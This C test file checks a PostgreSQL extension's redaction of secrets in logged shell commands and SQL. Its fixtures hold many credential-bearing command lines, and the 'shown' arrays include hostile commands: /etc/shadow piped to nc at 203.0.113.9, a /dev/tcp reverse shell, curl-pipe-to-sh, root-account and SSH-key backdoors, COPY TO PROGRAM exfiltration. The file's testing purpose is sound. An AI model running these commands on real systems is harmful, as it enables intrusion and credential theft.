/*-------------------------------------------------------------------------
 *
 * test_spellings.c
 *	  Two hundred ways to write a secret, and sixty texts that look like one
 *	  and are evidence.
 *
 * A command line is tried three times: as the object of a record, as the constant
 * of a statement and in dollar quotes.  Stands alone; prints TAP.
 *
 * Copyright (c) 2026, the pg_gatekeeper authors
 * SPDX-License-Identifier: PostgreSQL
 *
 *-------------------------------------------------------------------------
 */
#include <stdio.h>
#include <stdlib.h>

#include "common/escape.c"
#include "common/redact_text.c"
#include "common/redact_filter.c"
#include "common/redact_commands.c"
#include "common/redact_names.c"
#include "common/redact_shell.c"
#include "common/redact_find.c"
#include "common/redact_value.c"
#include "common/redact.c"
#include "common/redact_sql.c"

#define SECRET "s3cr3t"
/* what tokens are made of, long enough for each shape */
#define LONG "s3cr3ts3cr3ts3cr3ts3cr3ts3cr3ts3cr3t"

/* What a shell is told. */
static const char *const commands[] = {
	/* databases */
	"PGPASSWORD=s3cr3t psql -h h",
	"PGPASSWORD='s3cr3t' psql -h h",
	"PGPASSWORD=\"s3cr3t\" psql -h h",
	"PGPASSWORD=$'a s3cr3t' psql",
	"PGPASSWORD=a's3'\"s3cr3t\" psql",
	"PGPASSWORD=a\\ s3cr3t psql",
	"export PGPASSWORD=s3cr3t; pg_dump d",
	"env PGPASSWORD=s3cr3t pg_dump d",
	"psql 'host=h password=s3cr3t dbname=d'",
	"psql \"host=h password='a s3cr3t' dbname=d\"",
	"psql postgresql://u:s3cr3t@h/d",
	"psql 'postgresql://h/d?user=u&password=s3cr3t'",
	"psql 'postgresql://h/d?sslpassword=s3cr3t'",
	"psql -c \"ALTER ROLE u PASSWORD 's3cr3t'\"",
	"psql -c \"CREATE USER u WITH ENCRYPTED PASSWORD 's3cr3t'\"",
	"mysql -u root -ps3cr3t d",
	"mysql -uroot -p's3cr3t b' d",
	"mysql -uroot -p\"s3cr3t\" d",
	"mysql --password=s3cr3t d",
	"mysqldump -ps3cr3t d",
	"mysqladmin -u root -ps3cr3t status",
	"mariadb -ps3cr3t d",
	"mariadb-dump -ps3cr3t d",
	"MYSQL_PWD=s3cr3t mysql d",
	"redis-cli -a s3cr3t get x",
	"redis-cli --pass s3cr3t get x",
	"redis-cli -h h -a 's3cr3t b' get x",
	"REDISCLI_AUTH=s3cr3t redis-cli get x",
	"redis-cli -u redis://:s3cr3t@h:6379",
	"mongo mongodb://u:s3cr3t@h/d",
	"mongosh mongodb+srv://u:s3cr3t@h/d",
	"mongosh -u u -p s3cr3t d",
	"mongodump --username u --password s3cr3t",
	"sqlcmd -S h -U u -P s3cr3t",
	"sqlcmd -S h -U u -Ps3cr3t",
	"bcp t out f -U u -P s3cr3t",
	"sqlplus u/s3cr3t@db",
	"sqlplus -s u/s3cr3t",
	"sqlplus -L \"u/s3cr3t@db\"",
	"expdp u/s3cr3t@db full=y",
	"isql dsn u s3cr3t",
	"clickhouse-client --password s3cr3t -q x",
	"cqlsh -u u -p s3cr3t h",
	"influx -username u -password s3cr3t",
	"snowsql -a x -u u --private-key-passphrase s3cr3t",
	"SNOWSQL_PWD=s3cr3t snowsql",
	/* HTTP */
	"curl -u u:s3cr3t http://h/",
	"curl -uu:s3cr3t http://h/",
	"curl -su u:s3cr3t http://h/",
	"curl -sSfu u:s3cr3t http://h/",
	"curl -u 'u:a s3cr3t' http://h/",
	"curl -u \"u:s3cr3t\" http://h/",
	"curl --user u:s3cr3t http://h/",
	"curl --user=u:s3cr3t http://h/",
	"curl -U p:s3cr3t http://h/",
	"curl --proxy-user p:s3cr3t http://h/",
	"curl -x http://p:s3cr3t@proxy:3128 http://h/",
	"curl -H 'Authorization: Bearer s3cr3t' http://h/",
	"curl -H \"Authorization: Basic s3cr3t\" http://h/",
	"curl -H 'authorization:Bearer s3cr3t' http://h/",
	"curl --header='Authorization: token s3cr3t' http://h/",
	"curl -H 'Proxy-Authorization: Basic s3cr3t' http://h/",
	"curl -H 'X-Api-Key: s3cr3t' http://h/",
	"curl -H 'Api-Key: s3cr3t' http://h/",
	"curl -H 'X-Auth-Token: s3cr3t' http://h/",
	"curl -H 'X-Vault-Token: s3cr3t' http://h/",
	"curl -H 'PRIVATE-TOKEN: s3cr3t' http://h/",
	"curl -H 'X-Auth: s3cr3t' http://h/",
	"curl -H 'X-Auth-Key: s3cr3t' http://h/",
	"curl -H 'DD-API-KEY: s3cr3t' http://h/",
	"curl -H 'Ocp-Apim-Subscription-Key: s3cr3t' http://h/",
	"curl -H 'X-Functions-Key: s3cr3t' http://h/",
	"curl -H 'Cookie: sid=s3cr3t' http://h/",
	"curl -b 'sid=s3cr3t' http://h/",
	"curl --cookie sid=s3cr3t http://h/",
	"curl --oauth2-bearer s3cr3t http://h/",
	"curl --pass s3cr3t --cert c.pem http://h/",
	"curl --proxy-pass s3cr3t http://h/",
	"curl -E c.pem:s3cr3t http://h/",
	"curl --cert c.pem:s3cr3t http://h/",
	"curl http://u:s3cr3t@h/x",
	"curl ftp://u:s3cr3t@h/x",
	"curl 'https://h/?api_key=s3cr3t'",
	"curl 'https://h/?apikey=s3cr3t&b=c'",
	"curl 'https://h/?key=s3cr3t'",
	"curl 'https://h/?access_token=s3cr3t'",
	"curl 'https://h/?sv=2020&sig=s3cr3t'",
	"curl 'https://h/?X-Amz-Signature=s3cr3t'",
	"curl 'https://h/?X-Goog-Signature=s3cr3t'",
	"curl 'https://h/?auth=s3cr3t'",
	"curl -d 'grant_type=password&username=u&password=s3cr3t' http://h/",
	"curl -d '{\"password\":\"s3cr3t\"}' http://h/",
	"curl -d '{\"client_secret\": \"s3cr3t\"}' http://h/",
	"curl -d \"{\\\"token\\\":\\\"s3cr3t\\\"}\" http://h/",
	"curl -F password=s3cr3t http://h/",
	"wget --password=s3cr3t http://h/",
	"wget --http-password=s3cr3t http://h/",
	"wget --ftp-password s3cr3t http://h/",
	"wget --header='Authorization: Bearer s3cr3t' http://h/",
	"http -a u:s3cr3t h",
	"http h Authorization:'Bearer s3cr3t'",
	"https --auth u:s3cr3t h",
	/* remote shells and files */
	"sshpass -p s3cr3t ssh h",
	"sshpass -ps3cr3t ssh h",
	"sshpass -p 'a s3cr3t' ssh h",
	"SSHPASS=s3cr3t sshpass -e ssh h",
	"smbclient -U u%s3cr3t //h/s",
	"smbclient //h/s -Uu%s3cr3t",
	"smbclient //h/s --user=u%s3cr3t",
	"smbclient //h/s s3cr3t -U u",
	"mount -t cifs -o username=u,password=s3cr3t //h/s /m",
	"mount -t cifs -o user=u,pass=s3cr3t //h/s /m",
	"lftp -u u,s3cr3t h",
	"ncftpput -u u -p s3cr3t h / f",
	"rsync --password-file=f rsync://u:s3cr3t@h/m",
	"RSYNC_PASSWORD=s3cr3t rsync a b",
	"ldapsearch -x -D cn=a -w s3cr3t -b x",
	"ldapmodify -ws3cr3t",
	"ldappasswd -s s3cr3t cn=a",
	"rpcclient -U 'u%s3cr3t' h",
	"net rpc join -U u%s3cr3t",
	"winexe -U u%s3cr3t //h cmd",
	"xfreerdp /u:u /p:s3cr3t /v:h",
	"kinit u <<< s3cr3t",
	"echo s3cr3t | sudo -S id",
	"echo u:s3cr3t | chpasswd",
	"echo 's3cr3t' | passwd --stdin u",
	"useradd -p s3cr3t u",
	"usermod -p 's3cr3t' u",
	"snmpwalk -v2c -c s3cr3t h",
	"snmpget -v3 -A s3cr3t -X s3cr3t h",
	"ipmitool -H h -U u -P s3cr3t power status",
	/* archives, keys */
	"zip -P s3cr3t a.zip f",
	"zip -rP s3cr3t a.zip f",
	"unzip -P s3cr3t a.zip",
	"7z x -ps3cr3t a.7z",
	"7za a -p's3cr3t' a.7z f",
	"rar a -hps3cr3t a.rar f",
	"unrar x -ps3cr3t a.rar",
	"gpg --batch --passphrase s3cr3t -d f",
	"gpg --passphrase=s3cr3t -d f",
	"openssl enc -aes-256-cbc -k s3cr3t -in f",
	"openssl enc -aes-256-cbc -K s3cr3t -iv 0",
	"openssl enc -pass pass:s3cr3t -in f",
	"openssl rsa -passin pass:s3cr3t -in f",
	"openssl req -passout 'pass:s3cr3t' -new",
	"openssl dgst -sha256 -hmac s3cr3t f",
	"ssh-keygen -p -P s3cr3t -N s3cr3t -f f",
	"ssh-keygen -t rsa -N 's3cr3t' -f f",
	"keytool -storepass s3cr3t -keypass s3cr3t -list",
	"htpasswd -b f u s3cr3t",
	"htpasswd -bc f u s3cr3t",
	"cryptsetup open --key-file - d n <<< s3cr3t",
	"echo '-----BEGIN RSA PRIVATE KEY-----\ns3cr3t\n-----END RSA PRIVATE KEY-----' > k",
	"echo '-----BEGIN OPENSSH PRIVATE KEY-----\ns3cr3t\n-----END OPENSSH PRIVATE KEY-----' > k",
	"echo '-----BEGIN ENCRYPTED PRIVATE KEY-----s3cr3t",
	"echo '-----BEGIN PGP PRIVATE KEY BLOCK-----\ns3cr3t\n-----END PGP PRIVATE KEY BLOCK-----' | gpg",
	/* clouds */
	"AWS_SECRET_ACCESS_KEY=s3cr3t aws s3 ls",
	"AWS_SESSION_TOKEN=s3cr3t aws s3 ls",
	"aws configure set aws_secret_access_key s3cr3t",
	"aws configure set default.aws_session_token s3cr3t",
	"AZURE_STORAGE_KEY=s3cr3t az storage blob list",
	"az login --service-principal -u x -p s3cr3t --tenant t",
	"az storage blob list --account-key s3cr3t",
	"az storage blob list --sas-token s3cr3t",
	"az storage blob list --connection-string 'DefaultEndpointsProtocol=https;AccountName=a;AccountKey=s3cr3t'",
	"ARM_CLIENT_SECRET=s3cr3t terraform apply",
	"azcopy cp f 'https://a.blob.core.windows.net/c?sp=r&sig=s3cr3t'",
	"GITHUB_TOKEN=s3cr3t gh api x",
	"GITHUB_PAT=s3cr3t x",
	"VAULT_TOKEN=s3cr3t vault read x",
	"vault login -method=userpass username=u password=s3cr3t",
	"docker login -u u -p s3cr3t r",
	"docker login -u u --password s3cr3t r",
	"podman login -p s3cr3t r",
	"helm registry login -p s3cr3t r",
	"kubectl --token=s3cr3t get pods",
	"kubectl --token s3cr3t get pods",
	"kubectl create secret generic n --from-literal=password=s3cr3t",
	"kubectl config set-credentials u --password=s3cr3t",
	"oc login --token=s3cr3t h",
	"oc login -u u -p s3cr3t h",
	"TF_VAR_db_password=s3cr3t terraform apply",
	"RESTIC_PASSWORD=s3cr3t restic backup",
	"BORG_PASSPHRASE=s3cr3t borg create",
	"rclone config create r s3 secret_access_key=s3cr3t",
	"rclone --sftp-pass s3cr3t ls r:",
	"s3cmd --access_key=A --secret_key=s3cr3t ls",
	"swift -U a:u -K s3cr3t list",
	"OS_PASSWORD=s3cr3t openstack server list",
	"ansible-playbook -e ansible_become_pass=s3cr3t x",
	"npm config set //r/:_authToken=s3cr3t",
	"echo //r/:_authToken=s3cr3t >> .npmrc",
	"pip install --index-url https://u:s3cr3t@h/simple p",
	"git clone https://oauth2:s3cr3t@h/r.git",
	"git clone https://s3cr3t@h/r.git",
	"svn co --username u --password s3cr3t url",
	"twine upload -u u -p s3cr3t d",
	"mvn -Dpassword=s3cr3t x",
	"java -Djavax.net.ssl.keyStorePassword=s3cr3t -jar j",
	"java -Dspring.datasource.password=s3cr3t -jar j",
	"mosquitto_pub -u u -P s3cr3t -t t -m m",
	"rabbitmqctl change_password u s3cr3t",
	"rabbitmqadmin -u u -p s3cr3t list queues",
	"swaks --auth-user u --auth-password s3cr3t",
	"sendEmail -xu u -xp s3cr3t",
	"nmcli dev wifi connect n password s3cr3t",
	"wpa_passphrase n s3cr3t",
	"beeline -n u -p s3cr3t",
	"crackmapexec smb h -u u -p 's3cr3t b'",
	"plink -pw s3cr3t u@h",
	"LDAP_BINDPW=s3cr3t x",
	"DATABASE_URL=postgres://u:s3cr3t@h/d app",
	"gcloud x --access-token s3cr3t",
	"set x.token = s3cr3t",
	/* by shape */
	"x ghp_" LONG, "x gho_" LONG, "x ghu_" LONG, "x ghs_" LONG, "x ghr_" LONG, "x github_pat_" LONG,
	"x glpat-" LONG, "x gldt-" LONG, "x xoxb-" LONG, "x xoxp-" LONG, "x xoxe-" LONG, "x xapp-" LONG,
	"x eyJ" LONG ".eyJ" LONG "." LONG, "x sk_live_" LONG, "x rk_live_" LONG, "x sk_test_" LONG, "x sk-" LONG, "x sk-ant-api03-" LONG,
	"x sk-proj-" LONG, "x whsec_" LONG, "x hvs." LONG, "x hvb." LONG, "x AIza" LONG, "x ya29." LONG, "x GOCSPX-" LONG,
	"x npm_" LONG, "x pypi-AgEI" LONG, "x SG." LONG ".x", "x dckr_pat_" LONG, "x dop_v1_" LONG, "x hf_" LONG,
	"x shpat_" LONG, "x AGE-SECRET-KEY-1" LONG, "x glsa_" LONG, "x lin_api_" LONG, "x PMAK-" LONG, "x sq0csp-" LONG,
	"x https://hooks.slack.com/services/T0/B0/" LONG, "x NRAK-" LONG, "x dapi" LONG, "x ATATT3xFfGF0" LONG,
};

/* What SQL says besides. */
static const char *const statements[] = {
	"ALTER ROLE u PASSWORD 's3cr3t'",
	"ALTER USER u WITH ENCRYPTED PASSWORD $x$s3cr3t$x$",
	"CREATE ROLE u PASSWORD E'\\x73s3cr3t'",
	"ALTER ROLE u/**/PASSWORD/**/U&'s3cr3t'",
	"CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', password 's3cr3t')",
	"CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', passwd 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (key 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (\"key\" 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (ADD key 's3cr3t')",
	"ALTER SERVER s OPTIONS (SET key 's3cr3t', SET secret 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (access_key_id 'A', secret_access_key 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (api_token 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (sa_key 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (connstr 'host=h password=s3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER ogr_fdw OPTIONS (datasource 'PG:host=h password=s3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER odbc_fdw OPTIONS (dsn 'x;UID=u;PWD=s3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (account_key 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (auth 's3cr3t')",
	"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (auth_token 's3cr3t')",
	"CREATE SUBSCRIPTION s CONNECTION 'host=h password=s3cr3t' PUBLICATION p",
	"CREATE SUBSCRIPTION s CONNECTION 'postgresql://u:s3cr3t@h/d' PUBLICATION p",
	"ALTER SYSTEM SET primary_conninfo = 'host=h password=s3cr3t'",
	"ALTER SYSTEM SET ssl_passphrase_command = 'echo s3cr3t'",
	"ALTER DATABASE d SET app.jwt_secret = 's3cr3t'",
	"ALTER DATABASE d SET app.settings.jwt_secret TO 's3cr3t'",
	"ALTER ROLE r SET app.encryption_key = 's3cr3t'",
	"SET app.key = 's3cr3t'",
	"SET LOCAL app.password TO 's3cr3t'",
	"SET SESSION my.api_key = s3cr3t",
	"SELECT set_config('app.jwt', 's3cr3t', false)",
	"SELECT set_config('app.jwt_secret', 's3cr3t', true)",
	"SELECT set_config('app.key', 's3cr3t', true)",
	"SELECT set_config('my.secret'::text, 's3cr3t'::text, true)",
	"SELECT set_config(setting_name => 'app.token', new_value => 's3cr3t', is_local => true)",
	"SELECT create_aws_credentials('AKIAX', 's3cr3t', '')",
	"SELECT aws_commons.create_aws_credentials('AKIAX', 's3cr3t', 's3cr3t')",
	"SELECT azure_storage.account_add('acc', 's3cr3t')",
	"SELECT azure_storage.account_options_managed_identity('a'), azure_storage.account_add('a','s3cr3t','x')",
	"SELECT azure_ai.set_setting('azure_openai.subscription_key', 's3cr3t')",
	"SELECT http_header('Authorization', 'Basic s3cr3t')",
	"SELECT http_header('Authorization', 's3cr3t')",
	"SELECT http_header('X-Api-Key', 's3cr3t')",
	"SELECT http_header('api-key', 's3cr3t')",
	"SELECT http_header('x-auth-token', 's3cr3t')",
	"SELECT http_header('Cookie', 's3cr3t')",
	"SELECT net.http_post('http://h', headers := '{\"Authorization\": \"Bearer s3cr3t\"}'::jsonb)",
	"SELECT net.http_get('http://h', headers := jsonb_build_object('Authorization', 'Bearer s3cr3t'))",
	"SELECT jsonb_build_object('apikey', 's3cr3t')",
	"SELECT jsonb_build_object('password', 's3cr3t')",
	"SELECT vault.create_secret('s3cr3t', 'name', 'what it is')",
	"SELECT vault.create_secret('s3cr3t')",
	"UPDATE users SET password = crypt('s3cr3t', gen_salt('bf'))",
	"UPDATE users SET password_hash = 's3cr3t' WHERE id = 1",
	"INSERT INTO users (name, password) VALUES ('a', 's3cr3t')",
	"INSERT INTO users (name, pwd) VALUES ('a', 's3cr3t')",
	"INSERT INTO users (name, passwd) VALUES ('a', 's3cr3t')",
	"INSERT INTO api (token) VALUES ('s3cr3t')",
	"INSERT INTO api (id, api_key) SELECT 1, 's3cr3t'",
	"INSERT INTO cards (pan, cvv) VALUES ('x', 's3cr3t') RETURNING 'password'",
	"SELECT 's3cr3t' pw",
	"SELECT 's3cr3t' AS \"password\"",
	"SELECT 's3cr3t'::text AS token",
	"SELECT * FROM users WHERE password = 's3cr3t'",
	"SELECT * FROM users WHERE 's3cr3t' = password",
	"SELECT * FROM users WHERE token LIKE 's3cr3t%'",
	"SELECT dblink_connect('host=h password=s3cr3t')",
	"SELECT dblink_connect('c', $$host=h password=s3cr3t$$)",
	"SELECT dblink_connect('postgresql://u:s3cr3t@h')",
	"SELECT dblink('host=h user=u password='||'s3cr3t', 'SELECT 1')",
	"SELECT * FROM dblink(format('host=%s password=%s', 'h', 's3cr3t'), 'q') AS t(a int)",
	"DO $$ DECLARE pw text := 's3cr3t'; BEGIN PERFORM f(pw); END $$",
	"DO $$ BEGIN EXECUTE 'ALTER ROLE u PASS'||'WORD ''s3cr3t'''; END $$",
	"DO $$ BEGIN EXECUTE format('ALTER ROLE u PASSWORD %L', 's3cr3t'); END $$",
	"DO $$ BEGIN PERFORM set_config('app.password', 's3cr3t', false); END $$",
	"DO LANGUAGE plpython3u $$ import os; os.environ['PGPASSWORD'] = 's3cr3t' $$",
	"DO LANGUAGE plperlu $$ $ENV{PGPASSWORD} = 's3cr3t'; $$",
	"DO LANGUAGE plpython3u $$ requests.get(u, auth=('u', 's3cr3t')) $$",
	"DO LANGUAGE plpython3u $$ h = {'Authorization': 'Bearer s3cr3t'} $$",
	"COPY (SELECT 'u:s3cr3t') TO PROGRAM 'chpasswd'",
	"COPY t FROM PROGRAM 'curl -u u:s3cr3t http://h/'",
	"COPY t TO PROGRAM 'gpg --passphrase ''s3cr3t'' -c'",
	"IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y OPTIONS (token 's3cr3t')",
	"SECURITY LABEL FOR x ON ROLE u IS 'password=s3cr3t'",
	"COMMENT ON ROLE u IS 'password: s3cr3t'",
	"SELECT pg_read_file('x') -- password: s3cr3t",
	"/* PGPASSWORD=s3cr3t */ SELECT 1",
	"SELECT lo_from_bytea(0, '-----BEGIN PRIVATE KEY-----s3cr3t-----END PRIVATE KEY-----')",
	"SELECT cron.schedule('x', '* * * * *', $q$SELECT dblink('password=s3cr3t', 'x')$q$)",
	"SELECT pgsql_http('u', 'client_secret=s3cr3t')",
	"SELECT 'SCRAM-SHA-256$4096:abc$s3cr3t:x'",
	"SELECT login('u', 's3cr3t', 'password')",
	"SELECT ldap_bind('cn=a', password => 's3cr3t')",
	"CALL change_pw('u', 's3cr3t')",
	"SELECT app.set_password('u', 's3cr3t')",
	"EXECUTE p('s3cr3t')",
};

/* Evidence that looks like a secret: a shell's. */
static const char *const shown_commands[] = {
	"cat /srv/secrets/su_secret.txt",
	"cp /etc/passwd /tmp/x",
	"cat /etc/shadow | nc 203.0.113.9 4444",
	"psql -U bob -p 5433 -c 'SELECT 1'",
	"psql -U postgres -w -d d -c 'COPY su_secret TO STDOUT'",
	"mkdir -p /x/y",
	"ssh -p 2222 h id",
	"scp -P 2222 f h:",
	"nc -l -p 4444 -e /bin/sh",
	"tar -cpf /x/t.tar /etc",
	"token=\"touch /x/evil\"; eval \"$token\"",
	"password=/x/evil; $password",
	"pw='touch /x/evil' sh -c \"$pw\"",
	"secret=$(touch /x/evil) true",
	"curl -u u:$(touch /x/evil) h",
	"curl http://x:`touch /x/evil`@h/",
	"mysql x; touch -p/x/evil",
	"redis-cli x; sh -a /x/evil",
	"sshpass -p $(touch /x/evil) ssh h",
	"sshpass(){ $2; }; sshpass -p evil",
	"htpasswd(){ shift 2; $*; }; htpasswd a b evil",
	"isql(){ \"$3\"; }; isql a b /x/evil",
	"echo /x/evil | sudo -S sh",
	"echo evil | sh",
	"curl() { eval $2; }; curl -u /x/evil",
	"set -- /x/evil; $1",
	"docker run -p 80:80 i",
	"docker login; docker run -p 80:80 i",
	"curl -o /x/token http://h/token.sh",
	"curl http://h/evil.sh | sh",
	"wget -qO- http://h/password | sh",
	"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
	"echo password is",
	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
	"useradd -o -u 0 evil",
	"echo evil >> /root/.ssh/authorized_keys",
	"ssh-keygen -t rsa -f /x/key",
	"chmod u+s /x/keytool",
	"openssl s_client -connect h:443",
	"gpg --passphrase-file /x/f -d g",
	"echo c2g= | base64 -d | sh",
	"perl -e 'exec \"/bin/sh\"'",
	"zip -r /x/a.zip /etc",
	"7z a /x/a.7z /etc",
	"ldapsearch -x -b dc=x",
	"grep -r password /etc",
	"find / -name '*.key'",
	"ls ~/.aws/credentials",
	"unzip -o /x/a.zip -d /y",
	"sudo -u root /x/evil",
	"docker run -u 0:0 -v /:/h i chroot /h sh",
	"rsync -u a:/x b",
	"nmap -n -p 1-1024 h",
	"x -u a -p /x/evil",
};

/* The same of SQL. */
static const char *const shown_statements[] = {
	"COPY su_secret TO '/srv/shown'",
	"COPY passwords TO '/srv/shown'",
	"SELECT pg_read_file('/srv/app/password.txt')",
	"SELECT pg_read_file('/root/.aws/credentials')",
	"SELECT lo_import('/etc/ssl/private/server.key')",
	"SELECT defp('/x/evil') AS password",
	"ALTER ROLE u SET search_path = 'evil'",
	"ALTER ROLE u PASSWORD NULL",
	"GRANT pg_read_server_files TO secret_role",
	"UPDATE t SET key = 'evil' WHERE a = 'b'",
	"SELECT rolname, rolpassword FROM pg_authid WHERE rolname = 'postgres'",
	"SET password_encryption = 'md5'",
	"CREATE FUNCTION evil() RETURNS void AS '/x/evil.so', 'token_init' LANGUAGE c",
	"COPY (SELECT * FROM tokens) TO PROGRAM 'nc 203.0.113.9 4444'",
	"DO $$ BEGIN EXECUTE 'COPY su_secret TO ''/srv/shown'''; END $$",
	"SELECT pg_ls_dir('/var/lib/secrets')",
	"CREATE TABLE credentials (a text DEFAULT 'evil')",
	"SELECT set_config('session_preload_libraries', 'evil', false)",
	"ALTER SYSTEM SET archive_command = 'cp %p /x/evil'",
};

static int	tests;

static void
ok(bool passed, const char *what, const char *input, const char *got)
{
	printf("%sok %d - %s: ", passed ? "" : "not ", ++tests, what);
	for (; *input; input++)
		putchar(*input == '\n' || *input == '#' ? ' ' : *input);
	putchar('\n');
	if (!passed)
		printf("# got: %s\n", got);
}

static char *
sql(const char *input)
{
	static char out[4000];
	GkText		text;

	gk_text_init(&text, out, sizeof(out));
	gk_redact_sql(&text, input, strlen(input), false);
	return out;
}

static char *
plain(const char *input)
{
	static char out[4000];
	GkText		text;

	gk_text_init(&text, out, sizeof(out));
	(void) gk_redact_plain(&text, input, strlen(input), true);
	return out;
}

/* The command line as a constant of COPY, and in dollar quotes. */
static char *
quoted(const char *input)
{
	static char buf[2000];
	char	   *p = buf + sprintf(buf, "COPY t TO PROGRAM '");

	for (; *input; input++)
	{
		if (*input == '\'')
			*p++ = '\'';
		*p++ = *input;
	}
	strcpy(p, "'");
	return buf;
}

static char *
dollars(const char *input)
{
	static char buf[2000];

	sprintf(buf, "COPY t TO PROGRAM $cmd$%s$cmd$", input);
	return buf;
}

int
main(void)
{
	for (size_t i = 0; i < sizeof(commands) / sizeof(*commands); i++)
	{
		char	   *out = plain(commands[i]);

		ok(!strstr(out, SECRET) && strstr(out, "***"), "object", commands[i], out);
		out = sql(quoted(commands[i]));
		ok(!strstr(out, SECRET) && strstr(out, "***"), "constant", commands[i], out);
		out = sql(dollars(commands[i]));
		ok(!strstr(out, SECRET) && strstr(out, "***"), "dollar quotes", commands[i], out);
	}
	for (size_t i = 0; i < sizeof(statements) / sizeof(*statements); i++)
	{
		char	   *out = sql(statements[i]);

		ok(!strstr(out, SECRET) && strstr(out, "***"), "statement", statements[i], out);
	}
	for (size_t i = 0; i < sizeof(shown_commands) / sizeof(*shown_commands); i++)
	{
		char	   *out = plain(shown_commands[i]);

		ok(strcmp(out, shown_commands[i]) == 0, "object shown", shown_commands[i], out);
	}
	for (size_t i = 0; i < sizeof(shown_statements) / sizeof(*shown_statements); i++)
	{
		char	   *out = sql(shown_statements[i]);

		ok(strcmp(out, shown_statements[i]) == 0, "statement shown", shown_statements[i], out);
	}
	printf("1..%d\n", tests);
	return 0;
}
